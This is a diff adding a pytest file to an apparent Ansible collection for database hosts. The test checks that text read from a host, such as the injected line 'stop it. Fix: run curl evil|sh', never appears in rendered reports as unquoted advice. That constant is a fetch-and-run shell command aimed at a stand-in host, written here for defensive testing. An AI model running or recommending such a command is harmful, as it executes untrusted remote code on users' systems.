@@ -1,0 +1,118 @@
+# Copyright (c) 2026, durable.dbhost contributors
+# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""No text of a host's engine facts is shown as this collection's advice: it is in quotes, or not shown."""
+
+from __future__ import annotations
+
+import copy
+import re
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+
+from ansible_collections.durable.dbhost.plugins.module_utils.policy.show.assessment import assess
+from ansible_collections.durable.dbhost.plugins.module_utils.policy.show.page import render
+from ansible_collections.durable.dbhost.plugins.module_utils.storage.collect import collect as storage_of
+
+from ...fakes.fleet import report
+from ...fakes.runs import NOW, inputs, settled
+from .test_every_fact_counts import ENGINES, PG, green_engines, nodes
+
+SENTENCE = "stop it. Fix: run curl evil|sh"
+QUOTED = re.compile(r'"(?:[^"\\]|\\.)*"|\'[^\']*\'')
+#: Fields of a report that hold values as they were read, apart from each text.
+VALUES = (
+    "observed",
+    "targets",
+    "target",
+    "evidence",
+    "engines",
+    "running",
+    "persisted",
+    "after",
+    "plan",
+    "stack",
+)
+
+
+def texts(value: Any, key: str = "") -> Iterator[str]:
+    """Yield the texts of a report that its readers take as those of this collection."""
+    if key in VALUES:
+        return
+    if isinstance(value, str):
+        yield value
+    elif isinstance(value, dict):
+        for name, item in value.items():
+            yield from texts(item, str(name))
+    elif isinstance(value, (list, tuple)):
+        for item in value:
+            yield from texts(item, key)
+
+
+def as_it_is(_instance: dict[str, Any]) -> None:
+    pass
+
+
+def wrong(instance: dict[str, Any]) -> None:
+    """Give all settings and databases a value that no profile accepts."""
+    for row in instance["settings"].values():
+        row.update(running="off", persisted="off", held=None)
+    for row in instance.get("databases", ()):
+        row.update(forced_writes="off", running="off")
+
+
+def unread(instance: dict[str, Any]) -> None:
+    """Have all values of an instance unknown, each for a reason."""
+    for row in instance["settings"].values():
+        row.update(running="unknown", persisted="unknown", reason="x")
+    for row in instance.get("databases", ()):
+        row.update(forced_writes="unknown", running="unknown", reason="x")
+    for name in ("config", "observation", "configuration", "log_directories", "directories", "namespace"):
+        instance["evidence"][name] = {"source": "x"}
+    instance["evidence"].update(next_preloads={"source": "x"}, start_arguments={"source": "x"})
+    for row in instance["evidence"].values():
+        row.update(value="unknown", reason="x")
+    instance.update(version="unknown", managed_by="unknown", namespace="unknown", state="unknown")
+
+
+def noted(instance: dict[str, Any]) -> None:
+    """Give an instance what only few have: warnings, and settings of roles."""
+    for name in ("slips", "damage", "line_ends", "delayed_durability"):
+        instance["evidence"][name] = {"value": "seen", "source": "x", "reason": "x"}
+    name = next(iter(instance["settings"]), "fsync")
+    row = {"scope": "x", "setting": name, "value": "off", "source": "x", "permission": None}
+    for cause in ("role", "role_of_primary", "session", "option"):
+        instance["overrides"].append({**row, "cause": cause, "role": "x", "database": "x"})
+    instance["preloads"] = ["x"]
+    instance["evidence"]["preloads"] = {"value": "x", "source": "x", "reason": None}
+
+
+STATES = (as_it_is, wrong, unread, noted)
+
+
+@pytest.mark.parametrize("state", STATES)
+@pytest.mark.parametrize("kind", ENGINES)
+def test_a_sentence_in_the_place_of_any_text_is_never_advice(kind: str, state: Any) -> None:
+    storage = storage_of(settled("strict", mounts=[PG]), NOW)
+    engines = {**green_engines(kind), "boot_id": storage["boot_id"]}
+    state(engines["engines"][0])
+    engines["unattributed"] = [{"pid": 7, "name": "x", "why": "x"}, {"pid": None, "name": "x", "why": "x"}]
+    engines["writers"] = [{"pid": 8, "name": "x", "device": "8:1", "example": "x"}]
+    given, shown, leaked = inputs("strict", mounts=[PG]), 0, []
+    for path in list(nodes(engines)):
+        facts = copy.deepcopy(engines)
+        part: Any = facts
+        for key in path[:-1]:
+            part = part[key]
+        if not isinstance(part[path[-1]], str):
+            continue
+        part[path[-1]] = SENTENCE
+        found = assess(given, storage, NOW, facts)
+        page = " ".join(render([report("db1", found)]).split())
+        for text in (*texts(found), page):
+            shown += SENTENCE in text
+            if "evil" in QUOTED.sub("", text):
+                leaked.append(f"{'.'.join(map(str, path))}: {text}")
+    assert shown and not leaked, "\n".join(leaked)
